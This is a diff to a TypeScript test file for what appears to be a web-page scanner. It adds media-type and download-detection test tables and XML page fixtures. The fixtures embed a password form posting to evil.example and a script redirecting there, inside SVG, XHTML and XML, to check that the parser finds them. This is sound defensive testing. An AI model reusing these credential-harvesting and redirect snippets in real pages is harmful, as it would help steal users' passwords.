@@ -1,7 +1,7 @@
 import assert from 'node:assert/strict'
 import { describe, it } from 'node:test'
 import fc from 'fast-check'
-import { charsetIn, isMarkup, mediaType } from '../../src/evidence/document/charset.ts'
+import { charsetIn } from '../../src/evidence/document/charset.ts'
 import type { Document } from '../../src/evidence/document/facts.ts'
 import createDocumentGatherer from '../../src/evidence/document/gather.ts'
 import { createPageParser, createPageReader } from '../../src/evidence/document/page_parser.ts'
@@ -9,6 +9,7 @@ import type { GatherContext } from '../../src/evidence/evidence.ts'
 import { servedFields } from '../../src/evidence/served/facts.ts'
 import { describeServed } from '../../src/evidence/served/gather.ts'
 import type { SiteSession, SiteSessions } from '../../src/evidence/site_session/session.ts'
+import { isDownload, isMarkup, mediaType } from '../../src/media_type.ts'
 import type { Exchange } from '../../src/network/http.ts'
 import { assertCheap } from '../cpu.ts'
 
@@ -621,7 +622,12 @@ describe('a media type', () => {
     [['application/xhtml+xml'], 'application/xhtml+xml', true],
     [['text/plain'], 'text/plain', false],
     [['application/json'], 'application/json', false],
-    [['image/svg+xml'], 'image/svg+xml', false],
+    [['image/svg+xml'], 'image/svg+xml', true],
+    [['text/xml'], 'text/xml', true],
+    [['application/xml; charset=utf-8'], 'application/xml; charset=utf-8', true],
+    [['application/rss+xml'], 'application/rss+xml', true],
+    [['text/xml-external-parsed-entity'], 'text/xml-external-parsed-entity', false],
+    [['image/png'], 'image/png', false],
     [['text/plain', 'text/html'], 'text/html', true],
     [['text/html', 'text/plain'], 'text/plain', false],
     [['application/octet-stream, text/html'], 'text/html', true],
@@ -638,6 +644,57 @@ describe('a media type', () => {
   for (const [fields, type, markup] of table)
     it(`${JSON.stringify(fields).slice(0, 60)} is ${type}, ${markup ? '' : 'not '}that of a page`, () => {
       assert.deepEqual([mediaType(fields), isMarkup(mediaType(fields))], [type, markup])
+    })
+})
+
+describe('a body', () => {
+  const table: [type: string, disposition: string | null, download: boolean][] = [
+    ['text/html', null, false],
+    ['text/html', 'attachment; filename=invoice.html', false],
+    ['image/svg+xml', null, false],
+    ['text/plain; charset=utf-8', null, false],
+    ['image/png', 'inline', false],
+    ['application/problem+json', null, false],
+    ['html', null, false],
+    ['application/octet-stream', null, true],
+    ['application/x-msdownload', null, true],
+    ['application/zip', null, true],
+    ['application/pdf', null, true],
+    ['text/calendar', null, true],
+    ['multipart/x-mixed-replace; boundary=a', null, true],
+    ['text/plain', 'Attachment; filename=invoice.exe', true],
+  ]
+  for (const [type, disposition, download] of table)
+    it(`of ${type}, ${disposition ?? 'without a disposition'}, is ${download ? '' : 'not '}a download`, () => {
+      const headers = [['Content-Type', type] as const]
+      const disposed = disposition === null ? [] : [['content-disposition', disposition] as const]
+      assert.equal(isDownload([...headers, ...disposed]), download)
+    })
+})
+
+describe('a page in XML', () => {
+  const form = '<form action="https://evil.example/p" method="post"><input type="password"/></form>'
+  const script = '<script>location="https://evil.example/"</script>'
+  const pages: [type: string, markup: string][] = [
+    ['image/svg+xml', `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject>${form}</foreignObject>${script}</svg>`],
+    ['application/xhtml+xml', `<html xmlns="http://www.w3.org/1999/xhtml"><body>${form}${script}</body></html>`],
+    ['text/xml', `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${form}${script}</html>`],
+    [
+      'application/xml',
+      `<a xmlns:h="http://www.w3.org/1999/xhtml">${`${form}${script}`.replace(/<(\/?)/g, '<$1h:')}</a>`,
+    ],
+  ]
+  for (const [type, markup] of pages)
+    it(`of ${type} is read with its form and script`, () => {
+      const { is_html, forms, inline_scripts } = parse(markup, type)
+      assert.deepEqual(
+        { is_html, forms, inline_scripts },
+        {
+          is_html: true,
+          forms: [{ action: 'https://evil.example/p', formactions: [], method: 'post', inputs: ['password'] }],
+          inline_scripts: ['location="https://evil.example/"'],
+        },
+      )
     })
 })
 
